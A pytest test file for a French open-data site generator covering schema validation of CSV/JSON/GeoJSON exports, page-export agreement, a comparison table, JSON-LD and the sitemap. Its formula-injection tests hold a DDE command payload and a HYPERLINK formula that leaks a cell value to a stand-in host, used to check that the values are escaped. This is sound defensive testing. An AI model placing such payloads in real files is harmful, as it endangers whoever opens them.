"""Open data, comparison, structured data and sitemap, read from built sites as reusers and
visitors read them: every export against its own schemas with independent validators, exports
and pages that agree, the comparison of a test content tree, JSON-LD, lastmod."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import geojson
import jsonschema
import pytest
from hypothesis import given, settings, strategies as st
from frictionless import validate

from helpers import PUBLISHER, REPO, configure, copy_project, mkdocs_build, parse_page, read_text
from generator.outputs.opendata_schemas import FORMULA_CLASS, FORMULA_START, as_text
from generator.presentation.tables import runs

TABLES = ["appels", "appels-etapes", "regions", "ressources", "lieux"]
MAPPED = ["ressources", "lieux"]
BUILD_DAY = "2025-02-01"

FULL_CALL = """\
---
title: "Appel complet & a </ b > c"
summary: Un appel dont les sources disent tout.
run_by:
  - Région Bretagne
  - DREETS Bretagne
budget: 1500000
aid:
  min: 40000
  max: 150000
  max_rate: 70
  min_cofinancing: 30
duration:
  min_months: 12
  max_months: 24
payment_schedule:
  - percent: 60
    when: à la signature
  - percent: 40
    when: à la fin du projet
eligibility:
  applicants:
    - des tiers-lieux
    - des organismes de formation
  applicant_kinds:
    - tiers-lieu
    - entreprise-edtech
  applicant_kinds_complete: true
  lead_partner: Un tiers-lieu ouvert depuis un an.
  seniority: Un an d'existence pour chaque membre.
  seniority_months: 12
application:
  channels:
    - channel: platform
      url: https://depot.exemple.fr/
    - channel: post
      address: 1 rue de l'Exemple, 35000 Rennes
  proof: horodatage du dépôt
calendar:
  published: 2025-01-02
  opens: 2025-01-06
  waves:
    - label: Vague 1
      deadline: 2025-03-14
      time: "12:00"
    - label: Vague 2
      deadline:
        date: 2025-06-13
        year_uncertain: true
sources:
  - title: Page de la région
    publisher: bretagne.bzh
last_checked: 2025-01-10
---
Texte.
"""

EMPTY_CALL = """\
---
title: Appel presque inconnu
summary: Un appel dont les sources ne disent presque rien.
sources:
  - title: Article de presse
    publisher: journal.fr
last_checked: 2025-01-12
---
"""

# What a visitor reads in the comparison table, written out by hand (spaces for non-breaking ones).
FULL_CALL_FACTS = {
    "Porté par": "Région Bretagne ; DREETS Bretagne",
    "Enveloppe totale": "1 500 000 €",
    "Aide minimale par projet": "40 000 €",
    "Aide maximale par projet": "150 000 €",
    "Taux d'aide maximal": "70 %",
    "Cofinancement minimal": "30 %",
    "Durée du projet": "de 12 mois à 24 mois",
    "Versement de l'aide": "60 % à la signature ; 40 % à la fin du projet",
    "Membres possibles du collectif": "des tiers-lieux ; des organismes de formation",
    "Composition du collectif": "non communiqué",
    "Chef de file": "Un tiers-lieu ouvert depuis un an.",
    "Ancienneté des membres": "Un an d'existence pour chaque membre.",
    "Modes de dépôt": "Plateforme en ligne ; Courrier postal",
    "Date qui fait foi": "horodatage du dépôt",
    "Publication": "2 janvier 2025",
    "Ouverture des dépôts": "6 janvier 2025",
    "Vagues": "Vague 1 : 14 mars 2025 à 12 h 00, heure de Paris ; Vague 2 : 13 juin 2025 (année non confirmée)",
}
FULL_CALL_ELIGIBILITY = {
    "Tiers-lieu": "oui",
    "Entreprise EdTech": "oui",
    "Organisme de formation": "non cité",
    "Au moins un an d'existence exigé": "oui (12 mois)",
}


def write_compare_tree(regions: Path) -> None:
    for slug in ("bretagne", "guyane", "occitanie"):
        (regions / slug).mkdir(parents=True)
        shutil.copy(REPO / "regions" / slug / "region.yml", regions / slug / "region.yml")
    (regions / "bretagne/calls").mkdir()
    (regions / "bretagne/calls/complet.md").write_text(FULL_CALL, encoding="utf-8")
    (regions / "guyane/calls").mkdir()
    (regions / "guyane/calls/presque-inconnu.md").write_text(EMPTY_CALL, encoding="utf-8")


@pytest.fixture(scope="module")
def compare_site(tmp_path_factory) -> Path:
    """A site whose only calls are one the sources describe fully and one they barely describe."""
    source = tmp_path_factory.mktemp("compare-content")
    write_compare_tree(source / "regions")
    project = copy_project(tmp_path_factory.mktemp("compare"), source / "regions", BUILD_DAY)
    result = mkdocs_build(project)
    assert result.returncode == 0, result.stderr
    return project / "site"


@pytest.fixture(scope="module")
def public_site(tmp_path_factory) -> Path:
    """The real content, built for going live: its address is known."""
    project = copy_project(tmp_path_factory.mktemp("public"))
    configure(project, "https://deffinov.exemple.fr/", PUBLISHER)
    result = mkdocs_build(project)
    assert result.returncode == 0, result.stderr
    return project / "site"


# --- reading the files ------------------------------------------------------------------------


def folder(site: Path) -> Path:
    return site / "donnees-ouvertes"


def read_csv(site: Path, name: str) -> list[dict]:
    raw = (folder(site) / f"{name}.csv").read_bytes()
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def read_json(site: Path, name: str):
    return json.loads((folder(site) / name).read_text(encoding="utf-8"))


def table_cells(tree, caption_id: str) -> tuple[list[str], dict[str, list[str]]]:
    """A comparison table as read: the calls of its columns, and each row's label with its cells."""
    table = tree.xpath(f'//caption[@id="{caption_id}"]/..')[0]
    heads = [read_text(th.xpath(".//span")[0]) for th in table.xpath("./thead/tr/th")]
    rows = {read_text(tr.xpath("./th")[0]): [read_text(td) for td in tr.xpath("./td")] for tr in table.xpath("./tbody/tr")}
    return heads, rows


def ld_json(tree) -> dict:
    scripts = tree.xpath('//script[@type="application/ld+json"]')
    assert len(scripts) == 1
    return json.loads(scripts[0].text)


# --- every file against its own schemas, with independent validators ---------------------------


@pytest.mark.parametrize("site_fixture", ["built_site", "compare_site"])
def test_every_csv_validates_against_its_table_schema(request, site_fixture):
    site = request.getfixturevalue(site_fixture)
    report = validate(str(folder(site) / "datapackage.json"))
    problems = [f"{task.name}: {error.type} {error.note}" for task in report.tasks for error in task.errors]
    assert report.valid, "\n".join(problems[:20])
    assert sorted(task.name for task in report.tasks) == sorted(TABLES)
    for name in TABLES:
        schema = read_json(site, f"{name}.tableschema.json")
        raw = (folder(site) / f"{name}.csv").read_bytes()
        header = raw.decode("utf-8").split("\r\n", 1)[0]
        assert header.split(",") == [field["name"] for field in schema["fields"]], name
        assert schema["licenses"][0]["name"] == "etalab-2.0"


@pytest.mark.parametrize("site_fixture", ["built_site", "compare_site"])
def test_every_json_and_geojson_validates_against_its_json_schema(request, site_fixture):
    site = request.getfixturevalue(site_fixture)
    for name in TABLES:
        data = read_json(site, f"{name}.json")
        schema = read_json(site, data["$schema"])  # the file names its schema, beside it
        jsonschema.Draft202012Validator.check_schema(schema)
        validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(data)]
        assert errors == [], name
        assert [row["id"] for row in data["donnees"]] == [row["id"] for row in read_csv(site, name)]
    for name in MAPPED:
        schema = read_json(site, f"{name}.geojson.schema.json")
        errors = list(jsonschema.Draft202012Validator(schema).iter_errors(read_json(site, f"{name}.geojson")))
        assert errors == [], name


def test_the_validators_do_catch_a_broken_file(built_site, tmp_path):
    copy = tmp_path / "donnees"
    shutil.copytree(folder(built_site), copy)
    rows = list(csv.reader(io.StringIO((copy / "appels.csv").read_bytes().decode("utf-8"), newline="")))
    rows[1][rows[0].index("aid_min")] = "beaucoup"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    (copy / "appels.csv").write_bytes(out.getvalue().encode("utf-8"))
    report = validate(str(copy / "datapackage.json"))
    assert not report.valid
    assert [error.type for task in report.tasks for error in task.errors] == ["type-error"]

    data = json.loads((copy / "appels.json").read_text(encoding="utf-8"))
    data["donnees"][0]["calendar_state"] = "peut-être"
    schema = json.loads((copy / "appels.schema.json").read_text(encoding="utf-8"))
    assert len(list(jsonschema.Draft202012Validator(schema).iter_errors(data))) == 1


def test_the_map_files_are_geojson_with_each_place_where_the_csv_puts_it(built_site):
    for name in MAPPED:
        collection = geojson.loads((folder(built_site) / f"{name}.geojson").read_text(encoding="utf-8"))
        assert collection.is_valid, collection.errors()
        rows = {row["id"]: row for row in read_csv(built_site, name)}
        assert [feature["id"] for feature in collection["features"]] == list(rows)
        for feature in collection["features"]:
            row = rows[feature["id"]]
            if row["latitude"]:
                assert feature["geometry"]["coordinates"] == [float(row["longitude"]), float(row["latitude"])]
            else:
                assert feature["geometry"] is None


def test_schemas_describe_each_column_in_french_from_the_model(built_site):
    fields = {field["name"]: field for field in read_json(built_site, "appels.tableschema.json")["fields"]}
    assert fields["aid_min"]["title"] == "Aide minimale par projet"
    assert fields["aid_min"]["type"] == "integer"
    assert fields["calendar_published"]["type"] == "date"
    assert fields["calendar_published_year_uncertain"]["type"] == "boolean"
    assert fields["url"]["constraints"]["required"] is True
    assert "clos" in fields["calendar_state"]["description"]
    resources = {field["name"]: field for field in read_json(built_site, "ressources.tableschema.json")["fields"]}
    # Names and values of the "lieux de médiation numérique" schema where they fit.
    assert {"commune", "code_postal", "code_insee", "latitude", "longitude", "frais_a_charge", "date_maj"} <= set(resources)
    assert resources["frais_a_charge"]["constraints"]["enum"][:3] == ["Gratuit", "Gratuit sous condition", "Payant"]
    waves = {field["name"]: field for field in read_json(built_site, "appels-etapes.tableschema.json")["fields"]}
    assert waves["deadline_moment"]["type"] == "datetime"


# --- exports and pages agree ---------------------------------------------------------------------


def euros(label: str, tree) -> int | None:
    found = tree.xpath(f'//h2[@id="financement"]/following-sibling::div[1]//dt[normalize-space()="{label}"]/following-sibling::dd[1]')
    return int(re.sub(r"\D", "", read_text(found[0]))) if found else None


@pytest.mark.parametrize("site_fixture", ["built_site", "compare_site"])
def test_exports_and_pages_show_the_same_calls_deadlines_and_amounts(request, site_fixture):
    site = request.getfixturevalue(site_fixture)
    calls = read_csv(site, "appels")
    pages = sorted(p.parent.name for p in (site / "appels").glob("*/index.html"))
    assert sorted(row["id"] for row in calls) == pages
    waves = read_csv(site, "appels-etapes")
    for row in calls:
        tree = parse_page(site, f"appels/{row['id']}")
        assert read_text(tree.xpath("//h1")[0]) == " ".join(row["title"].split())
        shown = tree.xpath('//h2[@id="calendrier"]/following-sibling::div[1]//table//time/@datetime')
        exported = [w["deadline_moment"] for w in waves if w["call_id"] == row["id"] and w["deadline_moment"]]
        assert set(exported) <= set(shown), row["id"]
        assert len(shown) == len(exported) + (1 if row["calendar_closes"] else 0), row["id"]
        for column, label in (("aid_min", "Aide minimale par projet"), ("aid_max", "Aide maximale par projet"),
                              ("budget", "Enveloppe totale")):
            assert euros(label, tree) == (int(row[column]) if row[column] else None), (row["id"], column)


def test_an_uncertain_date_is_marked_in_the_files_as_on_the_page(compare_site):
    wave = next(w for w in read_csv(compare_site, "appels-etapes") if w["id"] == "complet/2")
    assert (wave["deadline"], wave["deadline_year_uncertain"], wave["time"]) == ("2025-06-13", "true", "")
    assert wave["deadline_moment"] == "2025-06-13T23:59:59+02:00"
    first = next(w for w in read_csv(compare_site, "appels-etapes") if w["id"] == "complet/1")
    assert first["deadline_moment"] == "2025-03-14T12:00:00+01:00" and first["deadline_year_uncertain"] == "false"
    assert "13 juin 2025 (heure non communiquée) (année non confirmée)" in read_text(parse_page(compare_site, "appels/complet"))


def test_rows_carry_their_id_and_an_absolute_page_address_once_the_site_address_is_known(public_site):
    for name, prefix in (("appels", "appels"), ("regions", "regions"), ("ressources", "catalogue"), ("lieux", "lieux")):
        for row in read_csv(public_site, name):
            assert row["url"] == f"https://deffinov.exemple.fr/{prefix}/{row['id']}/"
            assert (public_site / prefix / row["id"] / "index.html").is_file()
    data = read_json(public_site, "appels.json")
    assert data["$schema"] == "https://deffinov.exemple.fr/donnees-ouvertes/appels.schema.json"
    assert data["licence"]["title"] == "Licence Ouverte / Open Licence version 2.0"


def test_the_catalog_examples_are_exported_as_examples_only_when_the_site_shows_them(built_site, tmp_path):
    for name, prefix in (("ressources", "catalogue"), ("lieux", "lieux")):
        rows = read_csv(built_site, name)
        assert rows and all(row["example"] == "true" for row in rows)
        for row in rows:
            assert "Exemple : cette fiche montre" in read_text(parse_page(built_site, f"{prefix}/{row['id']}"))
    project = copy_project(tmp_path)
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("catalog_examples: true", "catalog_examples: false"), encoding="utf-8")
    assert mkdocs_build(project).returncode == 0
    site = project / "site"
    for name in MAPPED:
        assert read_csv(site, name) == []
        assert read_json(site, f"{name}.json")["donnees"] == []
        assert read_json(site, f"{name}.geojson")["features"] == []
    assert validate(str(folder(site) / "datapackage.json")).valid


def test_the_open_data_page_lists_every_file_with_its_schemas(built_site):
    tree = parse_page(built_site, "donnees-ouvertes")
    links = set(tree.xpath("//article//a/@href"))
    for name in TABLES:
        for suffix in (".csv", ".json", ".schema.json", ".tableschema.json"):
            assert f"{name}{suffix}" in links
    assert {"ressources.geojson", "lieux.geojson", "datapackage.json", "../comparaison/"} <= links
    content = read_text(tree)
    assert "Licence Ouverte / Open Licence version 2.0" in content
    assert "aid_min — Aide minimale par projet" in content


# --- no cell a spreadsheet would run ------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://collecte.example/?"&A1;"Cliquez ici")'
DDE = "=cmd|' /C calc'!A0"
PHONE = "+33 2 99 27 10 10"
FORMULA_PROVIDER = f"""\
name: "@Fabrique"
kind: tiers-lieu
summary: "-20 % pour les membres."
place:
  city: Rennes
  latitude: 48.11
  longitude: -1.68
opening_hours: Mo-Fr 09:00-18:00
contact:
  name: "{DDE}"
  email: "+contact@exemple.fr"
  phone: "{PHONE}"
last_updated: 2025-01-10
"""
FORMULA_RESOURCE = f"""\
---
title: Casques de réalité virtuelle
type: equipement
provider: fabrique
summary: '{HYPERLINK.replace("'", "''")}'
fees: Payant
booking:
  contact:
    phone: "{PHONE}"
last_updated: 2025-01-10
---
"""
FORMULA_CALL = f"""\
---
title: "+ de tiers-lieux"
summary: Un appel pour les tests.
contacts:
  - name: Service formation
    phone: "{PHONE}"
sources:
  - title: Page de la région
    publisher: region.fr
last_checked: 2025-01-10
---
"""


def test_the_characters_that_begin_a_formula_are_those_owasp_lists():
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r", "\n")
    assert all(re.fullmatch(FORMULA_CLASS, start) for start in FORMULA_START)
    assert [as_text(value) for value in ("=1+2", "\t=1", "\n-1", "Rennes", "", "'=déjà")] == [
        "'=1+2", "'\t=1", "'\n-1", "Rennes", "", "'=déjà"]


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory) -> Path:
    """A site whose texts begin as spreadsheet formulas do, and whose phone numbers begin with +."""
    regions = tmp_path_factory.mktemp("formula-content") / "regions"
    (regions / "bretagne").mkdir(parents=True)
    shutil.copy(REPO / "regions/bretagne/region.yml", regions / "bretagne/region.yml")
    for folder, name, text_ in (("calls", "plus.md", FORMULA_CALL), ("providers", "fabrique.yml", FORMULA_PROVIDER),
                                ("resources", "casques.md", FORMULA_RESOURCE)):
        (regions / "bretagne" / folder).mkdir()
        (regions / "bretagne" / folder / name).write_text(text_, encoding="utf-8")
    project = copy_project(tmp_path_factory.mktemp("formula"), regions, BUILD_DAY)
    result = mkdocs_build(project)
    assert result.returncode == 0, result.stdout + result.stderr
    return project / "site"


def test_a_csv_cell_that_would_run_as_a_formula_starts_with_a_quote_and_the_json_keeps_the_value(formula_site):
    calls, resources, providers = (read_csv(formula_site, name) for name in ("appels", "ressources", "lieux"))
    assert calls[0]["title"] == "'+ de tiers-lieux"
    assert resources[0]["summary"] == "'" + HYPERLINK
    assert resources[0]["booking_contact_phone"] == "'" + PHONE
    assert providers[0]["contact_name"] == "'" + DDE
    assert providers[0]["nom"] == "'@Fabrique"
    assert providers[0]["summary"] == "'-20 % pour les membres."
    assert providers[0]["contact_email"] == "'+contact@exemple.fr"
    assert providers[0]["contact_phone"] == "'" + PHONE
    # Numbers stay numbers, negative ones too; a list in JSON text begins with its bracket.
    assert providers[0]["longitude"] == "-1.68"
    assert json.loads(calls[0]["contacts"])[0]["phone"] == PHONE
    for name in TABLES:
        for row in read_csv(formula_site, name):
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r", "\n")), (name, column, value)
                assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), (name, column, value)
    # The JSON files are exact: no mark.
    assert read_json(formula_site, "appels.json")["donnees"][0]["title"] == "+ de tiers-lieux"
    assert read_json(formula_site, "ressources.json")["donnees"][0]["summary"] == HYPERLINK
    assert read_json(formula_site, "ressources.json")["donnees"][0]["booking_contact_phone"] == PHONE
    provider = read_json(formula_site, "lieux.json")["donnees"][0]
    assert (provider["contact_name"], provider["contact_phone"], provider["horaires"]) == (DDE, PHONE, "Mo-Fr 09:00-18:00")
    assert read_json(formula_site, "lieux.geojson")["features"][0]["properties"]["contact_name"] == DDE


def test_the_marked_csv_still_validates_and_its_schemas_and_page_say_why(formula_site):
    report = validate(str(folder(formula_site) / "datapackage.json"))
    problems = [f"{task.name}: {error.type} {error.note}" for task in report.tasks for error in task.errors]
    assert report.valid, "\n".join(problems)
    for name in TABLES:  # and the JSON against its own schema, with its exact values
        data = read_json(formula_site, f"{name}.json")
        assert list(jsonschema.Draft202012Validator(read_json(formula_site, data["$schema"])).iter_errors(data)) == []
    fields = {field["name"]: field for field in read_json(formula_site, "lieux.tableschema.json")["fields"]}
    for name in ("nom", "horaires", "contact_phone", "contact_email"):
        assert "précédée d'une apostrophe (')" in fields[name]["description"], name
    for name in ("id", "code_postal", "longitude", "date_maj", "site_web", "kind"):
        assert "apostrophe" not in fields[name]["description"], name
    # The pattern of a phone number lets the mark in, only before a character that needs it.
    pattern = re.compile(fields["contact_phone"]["constraints"]["pattern"])
    assert pattern.fullmatch("'" + PHONE) and pattern.fullmatch("02 99 27 10 10")
    assert not pattern.fullmatch("'02 99 27 10 10")
    tree = parse_page(formula_site, "donnees-ouvertes")
    explanation = read_text(tree.xpath('//*[@id="tableur"]')[0])
    assert "précédé d'une apostrophe" in explanation and "+33" in explanation and "JSON" in explanation
    assert tree.xpath('//dd//a[@href="#tableur"]')  # each such column links to it


# --- the comparison page ---------------------------------------------------------------------


def test_the_comparison_shows_each_calls_values_and_unknowns_as_such(compare_site):
    tree = parse_page(compare_site, "comparaison")
    calls, rows = table_cells(tree, "legende-conditions")
    assert calls == ["Appel complet & a </ b > c", "Appel presque inconnu"]
    for label, expected in FULL_CALL_FACTS.items():
        assert rows[label][0] == expected, label
    for label in FULL_CALL_FACTS:
        assert rows[label][1] == "non communiqué", label
    calls, rows = table_cells(tree, "legende-eligibilite")
    for label, expected in FULL_CALL_ELIGIBILITY.items():
        assert rows[label] == [expected, "non communiqué"], label
    # Sideways scrolling in a region a keyboard reaches and a screen reader names.
    for region in tree.xpath('//*[@class="deffinov-compare"]'):
        assert region.get("tabindex") == "0" and region.get("role") == "region"
        assert tree.xpath(f'//*[@id="{region.get("aria-labelledby")}"]')
    assert "Occitanie" in read_text(tree.xpath('//h2[@id="sans-appel"]/following-sibling::div[1]')[0])


def test_the_comparison_and_open_data_are_reached_from_the_calls_list_and_every_page(built_site):
    calls_list = parse_page(built_site, "appels")
    assert {"../comparaison/", "../donnees-ouvertes/"} <= set(calls_list.xpath("//article//a/@href"))
    home = parse_page(built_site, "")
    assert "Données ouvertes" in [read_text(a) for a in home.xpath("//footer//a")]
    assert "Comparer les appels des régions" in [read_text(a) for a in home.xpath("//nav//a")]


# --- structured data ----------------------------------------------------------------------------


def test_a_call_page_says_in_json_ld_who_funds_how_much_and_until_when(compare_site):
    raw = (compare_site / "appels/complet/index.html").read_text(encoding="utf-8")
    script = raw.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert "<" not in script  # no text of the content can close the element or open a comment
    data = ld_json(parse_page(compare_site, "appels/complet"))
    assert data["@context"] == "https://schema.org" and data["@type"] == "MonetaryGrant"
    assert data["name"] == "Appel complet & a </ b > c"
    assert [(f["@type"], f["name"]) for f in data["funder"]] == [
        ("GovernmentOrganization", "Région Bretagne"), ("GovernmentOrganization", "DREETS Bretagne")]
    amount = data["amount"]
    assert (amount["@type"], amount["currency"], amount["minValue"], amount["maxValue"]) == ("MonetaryAmount", "EUR", 40000, 150000)
    assert amount["validFrom"] == "2025-01-06"
    # The last deadline's year is not confirmed: it is not stated as certain.
    assert "validThrough" not in amount
    empty = ld_json(parse_page(compare_site, "appels/presque-inconnu"))
    assert empty["@type"] == "MonetaryGrant" and "amount" not in empty and "funder" not in empty


def test_a_resource_page_says_in_json_ld_who_offers_it_where_and_for_whom(built_site):
    row = next(r for r in read_csv(built_site, "ressources") if r["id"] == "casques-realite-virtuelle")
    provider = next(p for p in read_csv(built_site, "lieux") if p["id"] == row["provider"])
    data = ld_json(parse_page(built_site, "catalogue/casques-realite-virtuelle"))
    assert (data["@type"], data["name"], data["identifier"]) == ("Service", row["title"], row["id"])
    assert data["provider"]["@type"] == "Organization" and data["provider"]["name"] == provider["nom"]
    location = data["availableChannel"]["serviceLocation"]
    assert location["@type"] == "Place" and location["address"]["addressLocality"] == row["commune"]
    assert sorted(a["audienceType"] for a in data["audience"]) == ["demandeurs d'emploi", "salariés"]
    assert location["geo"]["latitude"] == float(row["latitude"])


# --- sitemap -----------------------------------------------------------------------------------


def test_the_sitemap_lists_every_page_with_the_day_its_content_last_changed(public_site):
    sitemap = (public_site / "sitemap.xml").read_text(encoding="utf-8")
    entries = dict(re.findall(r"<loc>https://deffinov\.exemple\.fr/([^<]*)</loc>\s*<lastmod>([^<]+)</lastmod>", sitemap))
    for row in read_csv(public_site, "appels"):
        amendments = [a["date"] for a in json.loads(row["amendments"])]
        assert entries[f"appels/{row['id']}/"] == max([row["last_checked"], *amendments])
    for row in read_csv(public_site, "ressources"):
        assert entries[f"catalogue/{row['id']}/"] >= row["date_maj"]
    for address in ("comparaison/", "donnees-ouvertes/", "appels/", "catalogue/", "regions/bretagne/"):
        assert address in entries
    pages = {p.parent.relative_to(public_site).as_posix() + "/" for p in public_site.rglob("index.html")}
    pages = {"" if p == "./" else p for p in pages}
    # The browser editor is a tool for editors, kept from search engines (noindex), not a page of the site.
    assert "admin/" in pages and 'content="noindex"' in (public_site / "admin/index.html").read_text(encoding="utf-8")
    assert pages - {"admin/"} == set(entries)


@settings(max_examples=200, deadline=None)
@given(st.integers(0, 3000), st.data())
def test_the_runs_a_preview_keeps_follow_the_rows_and_a_row_moved_changes_only_where_it_was_and_goes(count, data):
    """tables.runs: the runs of rows whose texts `mkdocs serve` keeps. A resource given a new title
    moves in the table; runs cut by position changed all the way between (every run, after a title
    saved in the benchmark), these change at most three."""
    ids = [f"ressource-{number}" for number in range(count)]
    before = [tuple(run) for run in runs(ids, str)]
    assert [item for run in before for item in run] == ids
    if len(ids) < 2:
        return
    item = data.draw(st.sampled_from(ids))
    moved = [other for other in ids if other != item]
    moved.insert(data.draw(st.integers(0, len(moved))), item)
    after = [tuple(run) for run in runs(moved, str)]
    assert [one for run in after for one in run] == moved
    assert len(set(after) - set(before)) <= 3
